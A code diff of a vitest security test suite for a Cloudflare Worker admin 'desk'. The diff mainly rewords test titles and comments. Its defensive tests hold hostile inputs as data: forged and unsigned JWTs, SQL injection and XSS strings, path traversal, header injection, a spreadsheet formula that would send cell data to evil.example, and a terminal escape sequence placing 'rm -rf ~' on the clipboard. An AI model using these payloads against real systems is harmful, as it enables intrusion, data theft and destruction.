@@ -1,4 +1,3 @@
-/** Attacks on the owner's desk, a row each. All are refused. */
 import { env as bindings } from 'cloudflare:workers';
 import { SignJWT, UnsecuredJWT } from 'jose';
 import { beforeAll, beforeEach, describe, expect, test, vi } from 'vitest';
@@ -21,7 +20,7 @@ let access: ReturnType<typeof createTeam>;
 let deployed: Partial<Env>;
 let fetched = 0;
 
-/** In order but for what the claims change. */
+/** Signs a valid token, except for the given claims. */
 function token(claims: Record<string, unknown> = {}, by = signer): Promise<string> {
   return by.sign({ iss: access.issuer, ...claims });
 }
@@ -51,7 +50,6 @@ interface Asked {
   settings?: Partial<Env>;
   at?: string;
   path?: string;
-  /** Makes it a post. */
   body?: unknown;
 }
 
@@ -71,12 +69,11 @@ async function askSignedIn(asked: Asked = {}): Promise<Response> {
   return ask({ token: await token(), ...asked });
 }
 
-/** The status that somebody gets with this token. */
 async function statusWith(signed: Promise<string>): Promise<number> {
   return (await ask({ token: await signed })).status;
 }
 
-/** Posts as the desk does: signed in, from the desk's origin, in JSON. */
+/** Posts as the desk does: signed in, with its Origin, as JSON. */
 function change(body: unknown, headers: Record<string, string> = {}): Promise<Response> {
   const usual = { Origin: site, 'Content-Type': 'application/json' };
   return askSignedIn({ path: '/api/v1/desk/changes', headers: { ...usual, ...headers }, body });
@@ -92,7 +89,7 @@ async function keep(fields: Record<string, string> = {}): Promise<string> {
   return referenceOf(await createHarness().fetch(jsonPost({ ...contact, ...fields })));
 }
 
-test('Whom Cloudflare Access vouches for reads the desk, and the certificates are fetched once', async () => {
+test('opens for a user of Cloudflare Access, and fetches the certificates once', async () => {
   for (let call = 0; call < 3; call += 1) {
     const answer = await askSignedIn();
     expect(answer.status).toBe(200);
@@ -103,7 +100,7 @@ test('Whom Cloudflare Access vouches for reads the desk, and the certificates ar
 
 const seconds = () => Math.floor(Date.now() / 1_000);
 
-/** Adds valid claims to a token that is signed in another way. */
+/** Adds valid claims to a token that is signed differently. */
 function claimed<Token extends SignJWT | UnsecuredJWT>(jwt: Token): Token {
   jwt.setIssuer(access.issuer).setAudience(audience).setIssuedAt().setExpirationTime('1h');
   return jwt;
@@ -124,29 +121,29 @@ async function changedAfterSigning(): Promise<string> {
 const asTeam = { iss: 'https://evil.example/.cloudflareaccess.com' };
 const elsewhere = { ACCESS_TEAM: 'evil.example/', ACCESS_AUD: audience };
 
-describe('A token', () => {
+describe('a token', () => {
   // biome-ignore format: a row a line
   test.each<[attack: string, asked: () => Promise<Asked>, status?: number]>([
-    ['that is not there', async () => ({})],
+    ['that is missing', async () => ({})],
     ['that is empty', async () => ({ token: '' })],
-    ['that is no token', async () => ({ token: 'a.b.c' })],
+    ['that is malformed', async () => ({ token: 'a.b.c' })],
     ['without a signature (alg: none)', async () => ({ token: claimed(new UnsecuredJWT({ email: person })).encode() })],
     ['signed by HS256 with the public key as the secret', async () => ({ token: await signedBySecret(signer.pem) })],
     ['of another team', async () => ({ token: await token({ iss: 'https://evil.cloudflareaccess.com' }) })],
     ['for another application', async () => ({ token: await token({ aud: ['shop'] }) })],
     ['signed by another key', async () => ({ token: await token({}, other) })],
-    ['whose words were changed after signing', async () => ({ token: await changedAfterSigning() })],
+    ['changed after signing', async () => ({ token: await changedAfterSigning() })],
     ['that has expired', async () => ({ token: await token({ exp: seconds() - 1 }) })],
     ['that never expires', async () => ({ token: await token({ exp: undefined }) })],
     ['that is not yet valid', async () => ({ token: await token({ nbf: seconds() + 3_600 }) })],
-    ['of a program', async () => ({ token: await token({ email: undefined }) })],
-    ['of nobody', async () => ({ token: await token({ email: '' }) })],
+    ['of a service without an email address', async () => ({ token: await token({ email: undefined }) })],
+    ['with an empty email address', async () => ({ token: await token({ email: '' }) })],
     ['in a cookie only', async () => ({ headers: { Cookie: `CF_Authorization=${await token()}` } })],
     ['in the Authorization header only', async () => ({ headers: { Authorization: `Bearer ${await token()}` } })],
     ['where no team is set', async () => ({ token: await token(), settings: { ACCESS_AUD: audience } }), 404],
     ['where no audience is set', async () => ({ token: await token(), settings: { ACCESS_TEAM: access.team } }), 404],
-    ['whose team is an address of its own', async () => ({ token: await token(asTeam), settings: elsewhere }), 404],
-  ])('%s opens nothing', async (_attack, asked, status = 401) => {
+    ['whose team setting contains another host', async () => ({ token: await token(asTeam), settings: elsewhere }), 404],
+  ])('%s is refused', async (_attack, asked, status = 401) => {
     const answer = await ask(await asked());
     expect(answer.status).toBe(status);
     expect(answer.headers.get('Cache-Control')).toBe('no-store');
@@ -154,10 +151,10 @@ describe('A token', () => {
     expect(Object.keys(await answer.json<object>())).toEqual(['message']);
   });
 
-  test('signed by a key that was taken out of use opens nothing, and the new key opens', async () => {
+  test('signed by a withdrawn key is refused, and by its successor accepted', async () => {
     expect(await statusWith(token())).toBe(200);
     publish(() => certificatesOf(other));
-    // An unknown key is asked for again, at most twice a minute.
+    // The keys are refetched at most twice a minute.
     passTime(31_000);
     expect(await statusWith(token({}, other))).toBe(200);
     expect(await statusWith(token())).toBe(401);
@@ -165,26 +162,32 @@ describe('A token', () => {
 
   test.each<[trouble: string, answer: () => Response | Promise<Response>]>([
     ['cannot be reached', () => Promise.reject(new TypeError('Network connection lost.'))],
-    ['answer with an error', () => Response.json({ keys: [signer.jwk] }, { status: 500 })],
-    ['are no certificates', () => Response.json({ keys: 'none' })],
-    ['are a page', () => new Response('<h1>Hello</h1>')],
-  ])('opens nothing while the certificates %s, asked for once a while', async (_why, answer) => {
-    publish(answer);
-    const refused = await askSignedIn();
-    expect([refused.status, refused.headers.get('Retry-After')]).toEqual([503, '60']);
-    expect((await askSignedIn({ path: '/desk' })).status).toBe(503);
-    passTime(29_000);
-    expect(await statusWith(token())).toBe(503);
-    expect(fetched).toBe(1);
-    passTime(2_000);
-    const atOnce = await Promise.all([1, 2, 3].map(() => statusWith(token())));
-    expect([atOnce, fetched]).toEqual([[503, 503, 503], 2]);
-    passTime(31_000);
-    publish(() => certificatesOf(signer));
-    expect(await statusWith(token())).toBe(200);
-  });
+    [
+      'cannot be read because of a server error',
+      () => Response.json({ keys: [signer.jwk] }, { status: 500 }),
+    ],
+    ['are malformed', () => Response.json({ keys: 'none' })],
+    ['are HTML', () => new Response('<h1>Hello</h1>')],
+  ])(
+    'is refused while the certificates %s, with one fetch per 30 seconds',
+    async (_why, answer) => {
+      publish(answer);
+      const refused = await askSignedIn();
+      expect([refused.status, refused.headers.get('Retry-After')]).toEqual([503, '60']);
+      expect((await askSignedIn({ path: '/desk' })).status).toBe(503);
+      passTime(29_000);
+      expect(await statusWith(token())).toBe(503);
+      expect(fetched).toBe(1);
+      passTime(2_000);
+      const atOnce = await Promise.all([1, 2, 3].map(() => statusWith(token())));
+      expect([atOnce, fetched]).toEqual([[503, 503, 503], 2]);
+      passTime(31_000);
+      publish(() => certificatesOf(signer));
+      expect(await statusWith(token())).toBe(200);
+    },
+  );
 
-  test('of an unknown key shuts nobody out while the certificates cannot be had', async () => {
+  test('with an unknown key locks nobody else out while certificates cannot be fetched', async () => {
     expect(await statusWith(token())).toBe(200);
     publish(() => new Response('busy', { status: 500 }));
     passTime(31_000);
@@ -196,8 +199,8 @@ describe('A token', () => {
 const withTeam = { ACCESS_TEAM: 'a-team', ACCESS_AUD: audience, ...onLaptop };
 const empty = { ...fromHere, Cookie: 'desk-key=' };
 
-describe('The local key', () => {
-  test('opens the desk on this machine, as a cookie that no script and no other site has', async () => {
+describe('the local key', () => {
+  test('opens the desk on this machine, as an HttpOnly and SameSite=Strict cookie', async () => {
     const here = { settings: onLaptop, at: local };
     const answer = await ask({ ...here, path: `/desk?key=${key}`, headers: fromHere });
     expect([answer.status, answer.headers.get('Location')]).toEqual([303, '/desk']);
@@ -212,19 +215,19 @@ describe('The local key', () => {
   test.each<[attack: string, status: number, asked: Asked]>([
     ['that is wrong', 401, { headers: { ...fromHere, Cookie: 'desk-key=guessed' } }],
     ['that is empty', 401, { headers: empty }],
-    ['in the address of data', 401, { headers: fromHere, path: `/api/v1/desk/overview?key=${key}` }],
+    ['in the address of an API', 401, { headers: fromHere, path: `/api/v1/desk/overview?key=${key}` }],
     ['that leaked in a referrer', 401, { headers: { ...fromHere, Referer: `${local}/desk?key=${key}` } }],
     ['on another host', 404, { headers: fromLaptop, at: site }],
-    ['on a host that begins alike', 404, { headers: fromLaptop, at: 'http://localhost.evil.example' }],
-    ['on a host of the own network', 404, { headers: fromLaptop, at: 'http://192.168.1.5:8787' }],
+    ['on a host that starts with localhost', 404, { headers: fromLaptop, at: 'http://localhost.evil.example' }],
+    ['on a host of the local network', 404, { headers: fromLaptop, at: 'http://192.168.1.5:8787' }],
     ['from another machine', 404, { headers: fromAfar }],
-    ['where nobody says who asks', 404, { headers: { Cookie: `desk-key=${key}` } }],
+    ['without a client address', 404, { headers: { Cookie: `desk-key=${key}` } }],
     ['in a page’s address on another host', 404, { headers: fromAfar, at: site, path: `/desk?key=${key}` }],
     ['that is not set', 404, { headers: empty, settings: { DESK_KEY: '' } }],
     ['set on a deployed Worker', 401, { headers: fromAfar, at: site, settings: withTeam }],
-    ['set on a deployed Worker that is asked as localhost', 401, { headers: fromAfar, settings: withTeam }],
+    ['set on a deployed Worker, with a forged host', 401, { headers: fromAfar, settings: withTeam }],
     ['set on a deployed Worker without Access', 404, { headers: fromAfar, at: site }],
-  ])('%s opens nothing', async (_attack, status, asked) => {
+  ])('%s is refused', async (_attack, status, asked) => {
     const answer = await ask({ settings: onLaptop, at: local, ...asked });
     expect([answer.status, answer.headers.get('Set-Cookie')]).toEqual([status, null]);
   });
@@ -234,28 +237,28 @@ test.each([
   ['/api/v1/desk/overview', '/api/v1/nothing'],
   ['/desk', '/nothing'],
   ['/desk/app.js', '/nothing'],
-])('Where no desk is set up, %s answers like %s', async (path, unknown) => {
+])('answers %s like %s where no desk is set up', async (path, unknown) => {
   const [desk, nothing] = [await ask({ settings: {}, path }), await createHarness().get(unknown)];
   expect([desk.status, await desk.text()]).toEqual([404, await nothing.text()]);
 });
 
 const nobody = 'TT-AAAA-AAAA';
 
-describe('A change', () => {
+describe('a change', () => {
   test.each<[attack: string, status: number, headers: Record<string, string>]>([
     ['from another site', 403, { Origin: 'https://evil.example' }],
     ['from a sandboxed frame', 403, { Origin: 'null', 'Sec-Fetch-Site': 'cross-site' }],
     ['from a subdomain', 403, { Origin: 'https://evil.tern-and-tide.test' }],
     ['as a form', 415, { 'Content-Type': 'application/x-www-form-urlencoded' }],
-    ['as plain text, which needs no preflight', 415, { 'Content-Type': 'text/plain' }],
-    ['as something that begins like JSON', 415, { 'Content-Type': 'application/jsonp' }],
+    ['as plain text, avoiding a preflight', 415, { 'Content-Type': 'text/plain' }],
+    ['as JSONP', 415, { 'Content-Type': 'application/jsonp' }],
   ])('%s is refused', async (_attack, status, headers) => {
     const references = [await keep()];
     expect((await change({ do: 'remove', references }, headers)).status).toBe(status);
     expect(await rows()).toHaveLength(1);
   });
 
-  test('that does not say where it comes from is refused', async () => {
+  test('without an Origin is refused', async () => {
     const headers = { 'Content-Type': 'application/json' };
     const asked = { path: '/api/v1/desk/changes', headers, body: { do: 'resend-failed' } };
     expect((await askSignedIn(asked)).status).toBe(403);
@@ -263,22 +266,22 @@ describe('A change', () => {
 
   // biome-ignore format: a row a line
   test.each<[attack: string, status: number, body: unknown]>([
-    ['that is unknown', 422, { do: 'drop' }],
-    ['inherited from a prototype', 422, { do: 'constructor', references: [] }],
-    ['of a name that is none', 422, { do: 'remove', references: ["' OR 1=1 --"] }],
+    ['of unknown kind', 422, { do: 'drop' }],
+    ['named constructor', 422, { do: 'constructor', references: [] }],
+    ['of an invalid reference', 422, { do: 'remove', references: ["' OR 1=1 --"] }],
     ['of everything', 422, { do: 'remove', references: '*' }],
-    ['of nothing', 422, { do: 'remove', references: [] }],
-    ['of too many', 422, { do: 'read', references: Array(501).fill(nobody) }],
-    ['of a pattern', 200, { do: 'erase', email: '%', typed: '%' }],
-    ['that undoes what nobody did', 200, { do: 'undo', what: 'answer', references: [nobody], at: 1 }],
-    ['that undoes a reading', 422, { do: 'undo', what: 'read', references: [nobody], at: 1 }],
-    ['that restores a note of nobody', 404, { do: 'restore-note', reference: nobody, id: 1 }],
-    ['that nobody has typed', 422, { do: 'erase', email: 'ravi@example.com', typed: 'yes' }],
+    ['of no message', 422, { do: 'remove', references: [] }],
+    ['of too many messages', 422, { do: 'read', references: Array(501).fill(nobody) }],
+    ['with a pattern as address', 200, { do: 'erase', email: '%', typed: '%' }],
+    ['that undoes a change nobody made', 200, { do: 'undo', what: 'answer', references: [nobody], at: 1 }],
+    ['that undoes marking as read', 422, { do: 'undo', what: 'read', references: [nobody], at: 1 }],
+    ['that restores an unknown note', 404, { do: 'restore-note', reference: nobody, id: 1 }],
+    ['that is not confirmed', 422, { do: 'erase', email: 'ravi@example.com', typed: 'yes' }],
     ['of an empty address', 422, { do: 'erase', email: '', typed: '' }],
-    ['with a note for nobody', 404, { do: 'note', reference: nobody, text: 'Hi' }],
-    ['with an endless note', 422, { do: 'note', reference: nobody, text: 'x'.repeat(5_001) }],
-    ['with an endless body', 413, `{"do":"note","text":"${'x'.repeat(110_000)}"}`],
-    ['that is no JSON', 400, '{'],
+    ['with a note on an unknown message', 404, { do: 'note', reference: nobody, text: 'Hi' }],
+    ['with too long a note', 422, { do: 'note', reference: nobody, text: 'x'.repeat(5_001) }],
+    ['with too large a body', 413, `{"do":"note","text":"${'x'.repeat(110_000)}"}`],
+    ['that is not JSON', 400, '{'],
   ])('%s changes nothing', async (_attack, status, body) => {
     await keep();
     const before = await rows();
@@ -286,7 +289,7 @@ describe('A change', () => {
     expect(await rows()).toEqual(before);
   });
 
-  test('A note is removed with its own message only, and nothing else of a history', async () => {
+  test('removes a note only with its own message, and no other event', async () => {
     const [mine, others] = [await keep(), await keep({ message: 'Another' })];
     const noted = await change({ do: 'note', reference: mine, text: 'Hi' });
     const { id } = await noted.json<{ id: number }>();
@@ -306,7 +309,7 @@ describe('A change', () => {
 });
 
 const noNames = [nobody, "TT-' OR 1=1", `../${nobody}`, '%2e%2e', 'x'.repeat(3_000)];
-test.each(noNames)('A message named %.40s is nowhere', async (name) => {
+test.each(noNames)('answers 404 for the reference %s', async (name) => {
   await keep();
   const path = `/api/v1/desk/messages/${encodeURIComponent(name)}`;
   const answers = [await askSignedIn({ path }), await askSignedIn({ path: `${path}/file` })];
@@ -319,7 +322,7 @@ test.each(
     ['ravi OR asha', 'words : ravi', '{words} : ravi', '^ravi NOT asha', 'ravi" OR "asha'],
     ['-asha', '\0ravi', '%_%', '🙂'.repeat(500), 'asha '.repeat(3_000)],
   ].flat(),
-)('A search for %.40j finds words, and has no language of its own', async (words) => {
+)('searches %j as words, not as query syntax', async (words) => {
   await keep({ name: 'Asha' });
   await keep({ name: 'Meera', email: 'meera@example.com', message: 'Good morning' });
   const path = `/messages?words=${encodeURIComponent(words)}`;
@@ -329,12 +332,12 @@ test.each(
 });
 
 const noFilters = 'state=all state=held%27 form=letter before=-1 before=1e3 before=x'.split(' ');
-test.each(noFilters)('A filter %s that does not exist is refused', async (query) => {
+test.each(noFilters)('refuses the filter %s', async (query) => {
   const path = `/api/v1/desk/messages?${query}`;
   expect((await askSignedIn({ path })).status).toBe(422);
 });
 
-test('Markup in every field stays text, in an answer that no browser takes for a page', async () => {
+test('returns markup in any field as JSON text', async () => {
   const markup = '<img src=x onerror=alert(1)>"><script>alert(1)</script>';
   const reference = await keep({ name: markup, message: markup });
   const answer = await askSignedIn({ path: `/api/v1/desk/messages/${reference}` });
@@ -347,7 +350,7 @@ test('Markup in every field stays text, in an answer that no browser takes for a
   expect(await answer.json()).toMatchObject({ message: { fields: { name: markup } } });
 });
 
-test('A message comes with the latest twenty others of its person, and none of another', async () => {
+test('shows a message with the latest twenty others of the same person', async () => {
   const references: string[] = [];
   for (let number = 0; number < 23; number += 1) {
     references.unshift(await keep({ message: String(number) }));
@@ -358,7 +361,7 @@ test('A message comes with the latest twenty others of its person, and none of a
   expect(earlier.map(({ reference }) => reference)).toEqual(others.slice(0, 20));
 });
 
-test('A list has fifty messages a page, and says where the next begins', async () => {
+test('lists fifty messages per page with the position of the next', async () => {
   await insertRows(101, {});
   const lengths: number[] = [];
   for (let query = ''; query !== '?before=null'; ) {
@@ -369,7 +372,7 @@ test('A list has fifty messages a page, and says where the next begins', async (
   expect(lengths).toEqual([50, 50, 1]);
 });
 
-test('A person is found whatever the case of the address', async () => {
+test('finds a person regardless of the address’s case', async () => {
   await keep({ email: 'Asha@Example.com' });
   expect(await read('/person?email=aSHA%40example.COM')).toMatchObject({ messages: 1 });
   expect(await read('/messages?email=ASHA%40EXAMPLE.COM')).toMatchObject({ messages: [{}] });
@@ -377,7 +380,7 @@ test('A person is found whatever the case of the address', async () => {
   expect(nobody.status).toBe(422);
 });
 
-test('No answer of the desk is kept by a browser but its files, and these by the owner’s alone', async () => {
+test('lets only the owner’s browser cache the desk’s files, and nothing cache the rest', async () => {
   const reference = await keep();
   const settings = { ...deployed, ASSETS: { fetch: async () => new Response('built') } };
   // biome-ignore format: addresses side by side
@@ -401,16 +404,13 @@ test.each([
   [`whsec_${btoa('A key of at least 24 bytes.')}`, []],
   ['whsec_', ['webhook-secret']],
   ['A word of the owner’s', ['webhook-secret']],
-])(
-  'Health says at once whether MESSAGE_WEBHOOK_SECRET is a key: "%s"',
-  async (secret, troubles) => {
-    const settings = { ...deployed, MESSAGE_WEBHOOK_SECRET: secret };
-    const overview = await (await askSignedIn({ settings })).json();
-    expect(overview).toMatchObject({ troubles, actor: person, open: 0 });
-  },
-);
+])('reports in Health whether MESSAGE_WEBHOOK_SECRET is a key: "%s"', async (secret, troubles) => {
+  const settings = { ...deployed, MESSAGE_WEBHOOK_SECRET: secret };
+  const overview = await (await askSignedIn({ settings })).json();
+  expect(overview).toMatchObject({ troubles, actor: person, open: 0 });
+});
 
-test('An export that breaks off does not look whole', async () => {
+test('breaks off a failed export instead of ending it', async () => {
   await insertRows(501, {});
   let pages = 0;
   const secondPage = (sql: string) => sql.includes('AS position') && ++pages > 1;
@@ -420,7 +420,7 @@ test('An export that breaks off does not look whole', async () => {
   await expect(answer.text()).rejects.toThrow('Network connection lost');
 });
 
-test('An export of what is filtered is no formula in any cell, and a whole table or none', async () => {
+test('exports filtered messages without formulas', async () => {
   await keep({ name: '=HYPERLINK("https://evil.example")', message: '@SUM(A1)' });
   await keep({ name: 'Asha', message: '+1' });
   const table = await (await askSignedIn({ path: '/api/v1/desk/export/csv' })).text();
@@ -432,7 +432,7 @@ test('An export of what is filtered is no formula in any cell, and a whole table
   expect(await filtered.json()).toMatchObject([{ fields: { name: 'Asha' } }]);
 });
 
-/** A held message with a text in each of its columns, as if the Worker had cleaned nothing. */
+/** Stores a held message with the same text in every column, bypassing the Worker's cleaning. */
 async function keepHostile(text: string): Promise<void> {
   await keep({ website: 'spam' });
   await changeRows(
@@ -447,7 +447,7 @@ const formulas = [
   ['=HYPERLINK("https://evil.example?x="&A1,"open")', 'x","=1+1', 'x"\r\n"=1+1', 'a, b'],
 ].flat();
 
-test.each(formulas)('A spreadsheet takes the exported %j for text of one cell', async (text) => {
+test.each(formulas)('exports %j as the text of one spreadsheet cell', async (text) => {
   await keepHostile(text);
   const table = await (await askSignedIn({ path: '/api/v1/desk/export/csv' })).text();
   const cells = (of = '') =>
@@ -460,7 +460,7 @@ test.each(formulas)('A spreadsheet takes the exported %j for text of one cell', 
   }
 });
 
-/** Each moves a cursor, colours, names a window, rings, or turns the reading direction. */
+/** Terminal and bidirectional control sequences. */
 const commands = [
   ['\u001b[2J\u001b[H', '\u001b]0;owned\u0007', '\u001b]52;c;cm0gLXJmIH4=\u0007'],
   ['\u001b]8;;https://evil.example\u001b\\bank.example\u001b]8;;\u001b\\'],
@@ -469,7 +469,7 @@ const commands = [
 ].flat();
 
 test.each([...commands, ...formulas])(
-  'An export as JSON holds %j, and no command',
+  'exports %j as JSON without control characters',
   async (text) => {
     await keepHostile(text);
     const json = await (await askSignedIn({ path: '/api/v1/desk/export/json' })).text();
@@ -486,7 +486,7 @@ test.each([
   ['C:\\Windows\\cv"; filename="evil.exe', 'cv_ filename_evil.pdf'],
   ['a\r\nSet-Cookie: x=1.pdf', 'a Set-Cookie_ x_1.pdf'],
   ['<script>.html', 'script.pdf'],
-])('A CV that is kept as %j is downloaded by a harmless name', async (name, safe) => {
+])('offers a CV stored as %j under a safe name', async (name, safe) => {
   const reference = await apply(createHarness());
   await bindings.DB.prepare('UPDATE inquiries SET file_name = ?').bind(name).run();
   const answer = await askSignedIn({ path: `/api/v1/desk/messages/${reference}/file` });
